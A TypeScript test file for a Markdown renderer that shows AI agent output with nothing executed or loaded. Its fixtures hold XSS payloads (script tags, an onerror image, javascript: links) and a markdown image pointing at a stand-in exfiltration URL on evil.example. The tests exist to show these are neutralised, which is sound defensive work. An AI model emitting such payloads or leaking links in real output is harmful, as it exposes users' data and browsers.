// @vitest-environment happy-dom
/** Agent output rendered as Markdown: formatting kept, nothing executed, embedded or loaded by the browser. */
import { afterEach, describe, expect, it, vi } from "vitest";
import { createElement as h } from "react";
import { cleanup, render, screen, waitFor } from "@testing-library/react";
import { userEvent } from "@testing-library/user-event";
import { Markdown, safeUrl, splitBlocks } from "./markdown";
import { OutputText } from "./output-text";

afterEach(cleanup);

const show = (text: string) => render(h(Markdown, { text, testId: "md" })).container;

/** Every attribute value in the rendered tree that could make the browser fetch or run something. */
function loadingAttributes(root: Element): string[] {
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll("*"))) {
    for (const attr of Array.from(el.attributes)) {
      if (["src", "srcset", "poster", "background", "data", "style", "action", "formaction"].includes(attr.name) || attr.name.startsWith("on")) {
        found.push(`${el.tagName.toLowerCase()}[${attr.name}=${attr.value}]`);
      }
    }
  }
  return found;
}

describe("Markdown", () => {
  it("renders lists, tables, emphasis and inline code, with headings below the page's own", () => {
    const root = show("# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |");
    expect(root.querySelector("h1")).toBeNull();
    expect(root.querySelector("h3")?.textContent).toBe("Title");
    expect(root.querySelector("strong")?.textContent).toBe("bold");
    expect(root.querySelectorAll("li")).toHaveLength(2);
    expect(root.querySelector("td")?.textContent).toBe("1");
    expect(root.querySelector("p code")?.textContent).toBe("code");
  });

  it("renders no raw HTML: scripts, iframes, event handlers and raw links never become elements", () => {
    const root = show(
      'Hi <script>alert(1)</script> <iframe src="https://evil.example"></iframe> <img src=x onerror="alert(1)"> <a href="https://evil.example">raw</a>',
    );
    expect(root.querySelector("script, iframe, img, a")).toBeNull();
    expect(loadingAttributes(root)).toEqual([]);
  });

  it("never loads an image: it becomes text with its address, and nothing in the page points the browser at it", () => {
    const root = show("Look: ![chart](https://evil.example/leak?d=secret) and ![x](data:image/png;base64,AAAA)");
    expect(root.querySelector("img, picture, source")).toBeNull();
    expect(loadingAttributes(root)).toEqual([]);
    expect(root.textContent).toContain("[image: chart (https://evil.example/leak?d=secret)]");
  });

  it("keeps http(s) and mailto links (new tab, noopener noreferrer nofollow) and drops javascript:, data: and relative ones", () => {
    const root = show("[ok](https://example.com/a) [mail](mailto:a@example.com) [bad](javascript:alert(1)) [d](data:text/html,x) [rel](/w/other)");
    const links = Array.from(root.querySelectorAll("a"));
    expect(links.map((a) => a.getAttribute("href"))).toEqual(["https://example.com/a", "mailto:a@example.com"]);
    for (const a of links) {
      expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(a.getAttribute("target")).toBe("_blank");
    }
    expect(root.textContent).toContain("bad");
    expect(safeUrl(" JAVASCRIPT:alert(1)")).toBe("");
  });

  it("highlights a fenced block once the grammars load, and copies exactly its code", async () => {
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    const code = 'const a = 1;\nconsole.log("<b>", a);';
    const root = show(`Before\n\n\`\`\`ts\n${code}\n\`\`\`\n`);
    await waitFor(() => expect(root.querySelector("code.hljs .hljs-keyword")?.textContent).toBe("const"));
    expect(root.querySelector("pre code")?.textContent).toBe(code);
    expect(root.querySelector("b")).toBeNull();
    await userEvent.click(screen.getByTestId("md-code-copy"));
    expect(writeText).toHaveBeenCalledWith(code);
  });

  it("renders text cut anywhere while it streams: an open fence, a half link", () => {
    const root = show("Intro\n\n```python\nprint('hi')\n\nmore [half a link](https://exa");
    expect(root.querySelector("[data-testid=md-code-block] pre")?.textContent).toContain("more [half a link]");
    expect(show("Just [a link](https:").textContent).toContain("a link");
  });
});

describe("splitBlocks", () => {
  it("splits at blank lines, never inside a fence", () => {
    expect(splitBlocks("a\nb\n\nc\n\n```\nx\n\ny\n```\n\nz")).toEqual(["a\nb", "c", "```\nx\n\ny\n```", "z"]);
    expect(splitBlocks("a\n\n~~~\nopen\n\nstill")).toEqual(["a", "~~~\nopen\n\nstill"]);
  });
});

describe("OutputText", () => {
  it("shows the output formatted, and its exact raw text on request (what the renderer dropped included)", async () => {
    const text = "**Done** <context from=x>data</context>";
    render(h(OutputText, { text, testId: "out" }));
    expect(screen.getByTestId("out").textContent).toBe("Done data");
    await userEvent.click(screen.getByTestId("out-raw"));
    expect(screen.getByTestId("out").textContent).toBe(text);
    expect(screen.getByTestId("out-raw").getAttribute("aria-pressed")).toBe("true");
  });
});
